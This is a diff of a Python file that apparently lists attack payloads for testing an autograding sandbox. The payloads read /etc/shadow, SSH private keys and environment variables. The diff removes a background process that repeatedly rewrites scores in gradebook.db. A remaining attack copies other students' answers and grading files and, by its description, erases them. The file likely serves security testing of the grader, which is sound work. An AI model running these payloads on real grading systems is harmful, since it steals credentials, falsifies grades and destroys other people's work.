@@ -4,8 +4,7 @@ from attacks.attack import Attack
 from attacks.notebooks import TRIED
 
 FIND = """
-import ctypes, os
-libc = ctypes.CDLL(None)
+import os
 def show(path):
     try:
         print(path, open(path, 'rb').read(10**5))
@@ -34,21 +33,6 @@ for path in ('/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_his
     tried(path, lambda: open(path, 'rb').read(5000))
 print(dict(os.environ))
 """, rich=True),
-    Attack("gradebook, later", "change the gradebook when the grader has written it", FIND + """
-import sqlite3, time
-if not os.fork():
-    os.setsid()
-    libc.prctl(15, b'attack-daemon', 0, 0, 0)
-    while True:
-        time.sleep(0.2)
-        for path in everywhere('gradebook.db'):
-            try:
-                connection = sqlite3.connect(path)
-                connection.execute('UPDATE grade SET auto_score = 594')
-                connection.commit()
-            except Exception:
-                pass
-"""),
     Attack("submissions of others", "copy others' answers, read how they are graded, and erase them", FIND + """
 for path in list(everywhere('.ipynb', 'gradebook.db', 'nbgrader_config.py', 'settings.py', 'judge.py', 'seed')):
     show(path)
